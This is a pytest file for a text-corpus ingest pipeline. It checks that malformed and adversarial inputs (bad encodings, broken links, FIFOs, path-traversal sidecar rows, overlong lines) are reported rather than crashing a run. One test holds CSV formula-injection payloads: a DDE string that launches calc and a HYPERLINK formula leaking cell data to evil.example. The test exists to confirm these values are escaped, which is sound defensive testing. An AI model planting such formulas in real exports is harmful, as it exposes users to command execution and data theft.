"""Every case in ../shared/adversarial (bad inputs that once crashed a run or lost articles),
checked at the function level: each input gets exactly one row per article with a status
that says why, and nothing raises. The cases are copied to a temporary folder (the shared
one is read-only) and make_special.sh recreates the links, the FIFO and the undecodable name.
A few whole-pipeline runs live in test_pipeline_faults.py."""

from __future__ import annotations

import shutil
import subprocess
from pathlib import Path

import pytest

from corpora import adversarial_dir
from analysis.ingest import iter_raw, read_sidecar
from analysis.tables import status_kind

REPO = Path(__file__).resolve().parents[1]
ADVERSARIAL = adversarial_dir()


@pytest.fixture(scope="session")
def cases(tmp_path_factory) -> Path:
    """A writable copy of every adversarial case, special files included."""
    if not (ADVERSARIAL / "README.md").exists():
        pytest.skip(f"{ADVERSARIAL} not found: set ANALYSIS_ADVERSARIAL (or ANALYSIS_CORPORA beside it)")
    dst = tmp_path_factory.mktemp("adversarial")
    for case in ADVERSARIAL.iterdir():
        if case.is_dir():
            shutil.copytree(case, dst / case.name, symlinks=True)
    for p in dst.rglob("*"):
        if not p.is_symlink():
            p.chmod(p.stat().st_mode | 0o200)
    seeds = ADVERSARIAL.parent / "seeds"
    subprocess.run(["bash", str(ADVERSARIAL / "make_special.sh"), str(dst), str(seeds)], check=True,
                   capture_output=True)
    return dst


def docs(case: Path) -> dict[str, object]:
    out = {}
    for d in iter_raw(case):
        assert d.article_id not in out
        out[d.article_id] = d
    return out


def test_non_utf8_file_name_is_read_with_escaped_bytes(cases):
    got = docs(cases / "non_utf8_filename")
    doc = got["caf\\xe9_latin1_name"]
    assert doc.status == "ok" and doc.source_path == "caf\\xe9_latin1_name.txt"
    assert any("not valid UTF-8" in w for w in doc.warnings)
    assert all(d.source_path.encode("utf-8") for d in got.values())


@pytest.mark.parametrize("case, field", [("jsonl_lone_surrogate_text", "text"), ("jsonl_lone_surrogate_title", "title")])
def test_lone_surrogate_is_replaced_and_named(cases, case, field):
    bad = [d for d in iter_raw(cases / case) if d.warnings]
    assert len(bad) == 1 and bad[0].status == "ok"
    assert "\ufffd" in getattr(bad[0], field) and f"in {field}" in bad[0].warnings[0] and "line 1" in bad[0].warnings[0]
    for d in iter_raw(cases / case):
        for value in (d.text, d.title, d.article_id):
            (value or "").encode("utf-8")  # storable


def test_broken_jsonl_link_is_one_unreadable_row(cases):
    from analysis.articles import count_inputs
    from analysis.ingest import list_inputs

    got = docs(cases / "broken_jsonl_link")
    assert got["broken"].status == "unreadable: broken symbolic link"
    assert count_inputs(list_inputs(cases / "broken_jsonl_link")) == len(got)


@pytest.mark.parametrize("case, words", [("jsonl_bigint", "cannot be read"), ("jsonl_deep_nesting", "nested too deeply")])
def test_unparseable_json_line_is_a_malformed_row(cases, case, words):
    got = [d for d in iter_raw(cases / case) if d.source_path == "c.jsonl"]
    kinds = [status_kind(d.status) for d in got]
    assert kinds.count("malformed") == 1 and kinds.count("ok") == len(kinds) - 1 >= 1
    assert "line 2" in next(d.status for d in got if d.status != "ok") and words in "".join(d.status for d in got)
    assert "sys." not in "".join(d.status for d in got)  # Python's advice, not the reader's
    assert "fix or delete that line in the file" in "".join(d.status for d in got)  # what to do (QA6 B12)


def test_silent_skips_each_get_a_row_saying_why(cases):
    got = {d.source_path: d.status for d in iter_raw(cases / "silent_skips")}
    assert status_kind(got[".hidden.txt"]) == "ignored" and "hidden" in got[".hidden.txt"]
    assert status_kind(got["sub/README.txt"]) == "ignored"
    assert status_kind(got["fifo.txt"]) == "unreadable" and "FIFO" in got["fifo.txt"]
    assert status_kind(got["linked_folder"]) == "ignored" and "link to a folder" in got["linked_folder"]
    assert got["000_34ba56db2594bef2.txt"] == "ok"
    assert len(got) == 5


def test_ambiguous_sidecar_base_name_applies_to_neither_and_says_so(cases):
    rows, problems = read_sidecar(cases / "sidecar_basename_ambiguous")
    assert rows == {}
    assert any("sub1/a.txt, sub2/a.txt" in p for p in problems)
    assert all(d.outlet is None for d in iter_raw(cases / "sidecar_basename_ambiguous"))


def test_sidecar_path_forms_normalised_or_reported(cases, tmp_path):
    case = cases / "sidecar_path_forms"
    got = {d.source_path: d for d in iter_raw(case)}
    assert got["a.txt"].outlet == "Dot Slash Outlet" and got["sub/b.txt"].outlet == "Dotdot Outlet"
    _, problems = read_sidecar(case)
    assert any("c.txt" in p and "C.txt" in p for p in problems), "a case mismatch is named, not applied"
    assert got["C.txt"].outlet is None
    raw = tmp_path / "raw"
    shutil.copytree(case, raw)
    with open(raw / "metadata.csv", "a") as fh:
        fh.write(f"{raw / 'a.txt'},Absolute,,2015-01-01,\n../outside.txt,Outside,,2015-01-01,\n")
    rows, problems = read_sidecar(raw)
    assert sum("not a path inside the raw folder" in p for p in problems) == 2
    assert {r["outlet"] for r in rows.values()} == {"Dot Slash Outlet", "Dotdot Outlet"}


def test_unbalanced_quote_costs_one_record_not_three(cases):
    got = {d.record_id: d.status for d in iter_raw(cases / "csv_unbalanced_quote")}
    assert [k for k, v in got.items() if v == "ok"] == ["a", "c", "d", "e"]
    (bad,) = [v for v in got.values() if v != "ok"]
    assert status_kind(bad) == "malformed" and "line 3" in bad and "quote" in bad


def _csv_cells(path: Path) -> list[str]:
    import csv

    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def test_formula_outlets_are_escaped_in_csv_and_numbers_stay_numbers(cases, tmp_path):
    from analysis.articles import build_articles
    from analysis.tables import FORMULA_STARTS, write_table

    articles, _, _ = build_articles(cases / "csv_formula", progress=False)
    assert set(articles["outlet"].dropna()) >= {"+cmd|' /C calc'!A0", "@SUM(1+1)"}, "the table keeps the value"
    frame = articles[["article_id", "outlet", "n_words"]].assign(neg=-3, text_number="-12")
    write_table(frame, tmp_path / "a.csv")
    cells = _csv_cells(tmp_path / "a.csv")
    risky = [c for c in cells if c.startswith(FORMULA_STARTS) and c not in ("-3", "-12")]
    assert risky == []
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in cells
    back = __import__("pandas").read_csv(tmp_path / "a.csv")
    assert back["neg"].tolist() == [-3] * len(frame) and back["n_words"].dtype.kind == "i"


def test_every_csv_is_written_by_the_one_safe_writer():
    """No module or notebook writes CSV itself: tables.write_table is the only to_csv call."""
    import re

    offenders = []
    for path in list((REPO / "src").rglob("*.py")) + list((REPO / "notebooks").glob("*.ipynb")):
        for m in re.finditer(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(", path.read_text(encoding="utf-8")):
            offenders.append(path.name)
    assert offenders == ["tables.py"], offenders


@pytest.mark.parametrize("suffix", [".jsonl", ".csv"])
def test_overlong_corpus_line_is_reported_without_being_held(tmp_path, monkeypatch, suffix):
    """A runaway line is cut at the record limit while reading (memory bounded by the limit,
    not the line), reported, and the records after it are read."""
    import tracemalloc

    from analysis import ingest

    monkeypatch.setattr(ingest, "MAX_ARTICLE_BYTES", 1_000)  # record limit 8,000 characters
    monkeypatch.setattr(ingest, "HEAD_BYTES", 4_096)  # stream it, as a big file is
    monkeypatch.setattr(ingest, "SKIP_CHARS", 65_536)
    raw = tmp_path / "raw"
    raw.mkdir()
    big = "x" * 3_000_000
    if suffix == ".jsonl":
        body = '{"id": "a", "text": "fine"}\n{"id": "huge", "text": "' + big + '"}\n{"id": "c", "text": "after"}\n'
    else:
        body = "id,text\na,fine\nhuge," + big + "\nc,after\n"
    (raw / f"c{suffix}").write_text(body)
    del body, big
    tracemalloc.start()
    docs = list(iter_raw(raw))
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [d.status for d in docs][0] == "ok" and docs[-1].text == "after"
    assert len(docs) == 3 and status_kind(docs[1].status) in ("too_large", "malformed")
    assert peak < 1_000_000, f"peak {peak} bytes for a 3 MB line"


def test_html_charset_lies_and_stray_nuls_still_read():
    from analysis.ingest import decode_bytes

    page = ('<html><head><meta charset="utf-16"></head><body><p>Caf\xe9 \u201cquoted\u201d words about '
            "Aleppo.</p></body></html>").encode("cp1252")
    text, encoding, problem = decode_bytes(page, html=True)
    assert problem is None and encoding == "cp1252" and "Caf\xe9 \u201cquoted\u201d" in text
    prose = b"A normal article with many words in it. " * 30
    text, _, problem = decode_bytes(prose + b"\x00\x00" + prose)
    assert problem is None and "\x00" not in text
    assert decode_bytes(b"\x00" * 100 + b"abc")[2].startswith("binary")
